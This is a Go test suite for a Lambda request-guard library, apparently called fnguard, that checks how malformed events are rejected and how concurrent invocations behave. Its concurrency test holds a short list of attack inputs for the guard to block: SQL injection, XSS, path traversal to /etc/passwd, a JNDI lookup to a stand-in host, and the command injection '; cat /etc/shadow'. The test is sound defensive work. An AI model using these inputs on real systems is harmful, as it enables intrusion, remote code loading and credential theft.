package benchmarks_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-lambda-go/lambda"
	"go.uber.org/goleak"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	"github.com/fnguard/fnguard/benchmarks"
	"github.com/fnguard/fnguard/guard"
	"github.com/fnguard/fnguard/middleware/guardlambda"
)

// malformedMaxAlloc bounds the memory one malformed event may cost
// (runtime.MemStats.TotalAlloc delta). Time is not asserted here: a test
// that fails when the machine is busy measures the machine, not fnguard.
// The cost per KB of crafted input is measured by `go run ./cmd/report
// -adversarial` and the benchmarks.
const malformedMaxAlloc = 64 << 20

type ctxKey struct{}

// probeHandler records in the context that it ran.
func probeHandler(ctx context.Context, req events.APIGatewayProxyRequest) (events.APIGatewayProxyResponse, error) {
	if n, ok := ctx.Value(ctxKey{}).(*atomic.Int32); ok {
		n.Add(1)
	}
	return events.APIGatewayProxyResponse{StatusCode: 200, Body: `{"ok":true}`}, nil
}

// want is the expected answer to a malformed event.
type want int

const (
	wantHTTP4xx       want = iota // an HTTP-shaped 400/413 answer from fnguard; handler not run
	wantTypedReject               // a *guard.BlockedError (errors.Is guard.ErrRejected); handler not run
	wantPass                      // legitimate input (API Gateway sends it): the handler runs and answers 200
	wantRecordFailure             // a batch whose malformed record fails alone: reported in batchItemFailures, the reason logged
)

// event modifies the typical REST event through a generic map.
func event(t *testing.T, f func(m map[string]any)) []byte {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(benchmarks.TypicalRESTEvent(""), &m); err != nil {
		t.Fatal(err)
	}
	f(m)
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestMalformedEvents runs hostile and broken payloads through the real
// guardlambda.WrapHandler path. Each gets a clear answer, never a panic,
// within a bounded time and allocation budget. Members of the wrong type
// for aws-lambda-go's events.APIGatewayProxyRequest are refused by fnguard
// with a 400 whose logged reason names the member, before aws-lambda-go's
// decoder could fail on them.
func TestMalformedEvents(t *testing.T) {
	core, logs := observer.New(zapcore.InfoLevel)
	// benchmarks.NewGuard's policy, logging into an observer to read the
	// reasons of HTTP refusals (their answer only says "Bad Request").
	g, err := guard.New(guard.WithoutEnv(), guard.WithLogger(zap.New(core)), guard.WithLogRate(-1, 0))
	if err != nil {
		t.Fatal(err)
	}
	h := guardlambda.WrapHandler(g, lambda.NewHandler(probeHandler))
	base := string(benchmarks.TypicalRESTEvent(""))
	deep := strings.Repeat("[", 100000) + strings.Repeat("]", 100000)
	digits := strings.Repeat("7", 10000)
	garbage := make([]byte, 4096)
	for i := range garbage {
		garbage[i] = byte(i*131 + i>>3) // deterministic, mostly non-UTF-8 bytes
	}

	tests := []struct {
		name    string
		payload []byte
		want    want
		status  int    // for wantHTTP4xx
		errHas  string // substring of the error (wantTypedReject) or of the logged reason (wantHTTP4xx)
	}{
		{"truncated JSON", []byte(base[:len(base)/2]), wantTypedReject, 0, "not valid JSON"},
		{"headers is an array", event(t, func(m map[string]any) { m["headers"] = []any{} }), wantHTTP4xx, 400,
			"headers: want an object of strings, got an array"},
		{"body is a number", event(t, func(m map[string]any) { m["body"] = 12 }), wantHTTP4xx, 400, "body: want a string, got 12"},
		{"httpMethod is an object", event(t, func(m map[string]any) { m["httpMethod"] = map[string]any{} }), wantHTTP4xx, 400,
			"httpMethod: want a string, got an object"},
		{"httpMethod is a number", event(t, func(m map[string]any) { m["httpMethod"] = 5 }), wantHTTP4xx, 400, "httpMethod: want a string, got 5"},
		{"isBase64Encoded is a string", event(t, func(m map[string]any) { m["isBase64Encoded"] = "yes" }), wantHTTP4xx, 400,
			"isBase64Encoded: want a boolean, got a string"},
		{"requestContext is an array", event(t, func(m map[string]any) { m["requestContext"] = []any{} }), wantHTTP4xx, 400,
			"requestContext: want an object, got an array"},
		{"multi-value header is a string", event(t, func(m map[string]any) { m["multiValueHeaders"] = map[string]any{"Accept": "*/*"} }), wantHTTP4xx, 400,
			"multiValueHeaders.Accept: want an array of strings, got a string"},
		{"authorizer claim past float64", []byte(strings.Replace(base, `"authorizer":null`, `"authorizer":{"n":1e999}`, 1)), wantHTTP4xx, 400,
			"requestContext.authorizer: want numbers that fit float64, got 1e999"},
		{"member differing from body only in case", event(t, func(m map[string]any) { m["BODY"] = "<script>alert(1)</script>" }), wantHTTP4xx, 400,
			"BODY: member name differs from \"body\" only in letter case"},
		{"null header maps, as API Gateway sends them", event(t, func(m map[string]any) {
			m["headers"], m["multiValueHeaders"], m["queryStringParameters"], m["multiValueQueryStringParameters"] = nil, nil, nil, nil
		}), wantPass, 0, ""},
		{"null requestContext", event(t, func(m map[string]any) { m["requestContext"] = nil }), wantPass, 0, ""},
		{"null event", []byte("null"), wantPass, 0, ""},
		{"100000-deep nesting as the event", []byte(deep), wantTypedReject, 0, "depth"},
		{"100000-deep nesting as the body", event(t, func(m map[string]any) { m["body"] = deep }), wantHTTP4xx, 400, ""},
		{"invalid UTF-8 in a query parameter", []byte(strings.Replace(base, `"expand":"items"`, "\"expand\":\"it\xfe\xffms\"", 1)), wantTypedReject, 0, "UTF-8"},
		{"invalid UTF-8 in the body", []byte(strings.Replace(base, "Siobhan", "Sio\xffhan", 1)), wantTypedReject, 0, "UTF-8"},
		{"duplicate keys in the envelope", []byte(strings.Replace(base, `"httpMethod":"POST"`, `"httpMethod":"POST","httpMethod":"GET"`, 1)), wantHTTP4xx, 400, "duplicate key"},
		{"10000-digit number in the body", event(t, func(m map[string]any) { m["body"] = `{"qty":` + digits + `}` }), wantPass, 0, ""},
		{"10000-digit number in the envelope", []byte(strings.Replace(base, `"requestTimeEpoch":0`, `"requestTimeEpoch":`+digits, 1)), wantHTTP4xx, 400,
			"requestContext.requestTimeEpoch: want an integer that fits int64, got a 10000-digit number"},
		{"fraction where an integer is expected", []byte(strings.Replace(base, `"requestTimeEpoch":0`, `"requestTimeEpoch":0.5`, 1)), wantHTTP4xx, 400,
			"requestContext.requestTimeEpoch: want an integer that fits int64, got 0.5"},
		{"10001-deep nesting inside the envelope", event(t, func(m map[string]any) {
			m["stageVariables"] = json.RawMessage(strings.Repeat("[", 10000) + strings.Repeat("]", 10000))
		}), wantHTTP4xx, 400, "nested deeper than the 10000 levels encoding/json decodes"},
		// A malformed record fails alone, like one the engine finds
		// malformed (issue 15): it comes back as a batch item failure.
		{"SQS message attribute of the wrong type", []byte(`{"Records":[{"eventSource":"aws:sqs","messageId":"m-1","body":"{}",` +
			`"messageAttributes":{"kind":{"dataType":"String","stringValue":7}}}]}`), wantRecordFailure, 0,
			"want a string, got 7"},
		{"invalid base64 with isBase64Encoded", event(t, func(m map[string]any) { m["isBase64Encoded"], m["body"] = true, "!!not base64!!" }), wantHTTP4xx, 400, ""},
		{"body over the 6 MiB limit", event(t, func(m map[string]any) { m["body"] = strings.Repeat("a", 7<<20) }), wantHTTP4xx, 413, ""},
		{"binary garbage", garbage, wantTypedReject, 0, "not valid JSON"},
		{"empty payload", []byte{}, wantTypedReject, 0, "not valid JSON"},
	}
	if !strings.Contains(base, `"requestTimeEpoch":0`) || !strings.Contains(base, `"expand":"items"`) || !strings.Contains(base, `"authorizer":null`) {
		t.Fatal("the typical event no longer has the fields the cases rewrite")
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var calls atomic.Int32
			ctx := context.WithValue(benchmarks.InvokeContext("malformed"), ctxKey{}, &calls)
			logs.TakeAll()
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			out, panicked, err := invokeNoPanic(h, ctx, tc.payload)
			runtime.ReadMemStats(&after)
			if panicked != nil {
				t.Fatalf("panic: %v", panicked)
			}
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > malformedMaxAlloc {
				t.Errorf("allocated %d bytes, want < %d", alloc, malformedMaxAlloc)
			}
			switch tc.want {
			case wantPass:
				if err != nil || calls.Load() != 1 {
					t.Fatalf("handler calls %d, err %v; want the handler to run once", calls.Load(), err)
				}
				return
			}
			if calls.Load() != 0 {
				t.Fatalf("the handler ran (%d calls)", calls.Load())
			}
			switch tc.want {
			case wantRecordFailure:
				if err != nil || string(out) != `{"batchItemFailures":[{"itemIdentifier":"m-1"}]}` {
					t.Fatalf("err %v, out %.200q; want m-1 alone in batchItemFailures", err, out)
				}
				var reasons []string
				for _, e := range logs.All() {
					if r, ok := e.ContextMap()["fnguard.excerpt"].(string); ok {
						reasons = append(reasons, r)
					}
					if r, ok := e.ContextMap()["fnguard.reason"].(string); ok {
						reasons = append(reasons, r)
					}
				}
				if !slices.ContainsFunc(reasons, func(r string) bool { return strings.Contains(r, tc.errHas) }) {
					t.Errorf("logged reasons %q do not say %q", reasons, tc.errHas)
				}
			case wantTypedReject:
				var be *guard.BlockedError
				if !errors.As(err, &be) || !errors.Is(err, guard.ErrRejected) {
					t.Fatalf("err %v (%T), out %.200q; want a *guard.BlockedError matching guard.ErrRejected", err, err, out)
				}
				if !strings.Contains(err.Error(), tc.errHas) {
					t.Errorf("error %q does not say %q", err, tc.errHas)
				}
			case wantHTTP4xx:
				if err != nil {
					t.Fatalf("err %v, want an HTTP %d answer", err, tc.status)
				}
				var resp events.APIGatewayProxyResponse
				if jerr := json.Unmarshal(out, &resp); jerr != nil {
					t.Fatalf("answer %.200q is not an API Gateway response: %v", out, jerr)
				}
				if resp.StatusCode != tc.status {
					t.Errorf("status %d, want %d (body %s)", resp.StatusCode, tc.status, resp.Body)
				}
				if !strings.Contains(resp.Body, `"requestId":"malformed"`) {
					t.Errorf("body %s does not carry the request id", resp.Body)
				}
				if tc.errHas != "" {
					var reasons []string
					for _, e := range logs.All() {
						if r, ok := e.ContextMap()["fnguard.reason"].(string); ok {
							reasons = append(reasons, r)
						}
					}
					if !slices.ContainsFunc(reasons, func(r string) bool { return strings.Contains(r, tc.errHas) }) {
						t.Errorf("logged reasons %q do not say %q", reasons, tc.errHas)
					}
				}
			}
		})
	}
}

func invokeNoPanic(h lambda.Handler, ctx context.Context, payload []byte) (out []byte, panicked any, err error) {
	defer func() { panicked = recover() }()
	out, err = h.Invoke(ctx, payload)
	return out, nil, err
}

// echoRaw is a lambda.Handler that is safe for concurrent use: it decodes
// the event and encodes the answer into fresh buffers on every call.
type echoRaw struct{}

func (echoRaw) Invoke(ctx context.Context, payload []byte) ([]byte, error) {
	var req events.APIGatewayProxyRequest
	if err := json.Unmarshal(payload, &req); err != nil {
		return nil, err
	}
	return json.Marshal(events.APIGatewayProxyResponse{StatusCode: 200, Body: req.QueryStringParameters["expand"]})
}

func echoTyped(ctx context.Context, req events.APIGatewayProxyRequest) (events.APIGatewayProxyResponse, error) {
	return events.APIGatewayProxyResponse{StatusCode: 200, Body: req.QueryStringParameters["expand"]}, nil
}

// TestConcurrentInvocations: one wrapped handler shared by many goroutines,
// as aws-lambda-go runs it with AWS_LAMBDA_MAX_CONCURRENCY > 1 (run it with
// -race). Every answer must belong to its own event (the handler echoes a
// per-call value), attacks must be blocked, and no goroutine may outlive the
// calls.
//
// "Wrap(typed handler)" is the documented usage, guardlambda.Wrap(g, h),
// which is WrapHandler(g, lambda.NewHandler(h)). The []byte that
// aws-lambda-go's lambda.NewHandler(...).Invoke returns aliases a pooled
// buffer that Invoke has already put back in its pool, so concurrent
// invocations can receive each other's responses; this subtest fails until
// guardlambda stops relying on that Invoke (see the benchmarks report).
func TestConcurrentInvocations(t *testing.T) {
	defer goleak.VerifyNone(t, goleak.IgnoreCurrent())
	g, err := benchmarks.NewGuard()
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		h    lambda.Handler
	}{
		{"WrapHandler(concurrency-safe raw handler)", guardlambda.WrapHandler(g, echoRaw{})},
		{"Wrap(typed handler)", guardlambda.Wrap(g, echoTyped)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { hammer(t, tc.h) })
	}
}

func hammer(t *testing.T, h lambda.Handler) {
	workers, perWorker := 16, 150
	if testing.Short() {
		perWorker = 30
	}
	attacks := []string{"1' OR '1'='1", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "; cat /etc/shadow"}
	var wg sync.WaitGroup
	errs := make(chan error, workers)
	for w := range workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range perWorker {
				malicious := (w+i)%3 == 0
				val := fmt.Sprintf("item-%d-%d", w, i)
				if malicious {
					val = attacks[(w+i)%len(attacks)]
				}
				out, err := h.Invoke(benchmarks.InvokeContext(fmt.Sprintf("req-%d-%d", w, i)), benchmarks.TypicalRESTEvent(val))
				if err != nil {
					errs <- fmt.Errorf("worker %d call %d: %v", w, i, err)
					return
				}
				var resp events.APIGatewayProxyResponse
				if err := json.Unmarshal(out, &resp); err != nil {
					errs <- fmt.Errorf("worker %d call %d: answer %.200q: %v", w, i, out, err)
					return
				}
				switch {
				case malicious && resp.StatusCode != 403:
					errs <- fmt.Errorf("worker %d call %d: %q got %d %s, want 403", w, i, val, resp.StatusCode, resp.Body)
					return
				case !malicious && (resp.StatusCode != 200 || resp.Body != val):
					errs <- fmt.Errorf("worker %d call %d: got %d %q, want 200 %q (another invocation's answer)", w, i, resp.StatusCode, resp.Body, val)
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}
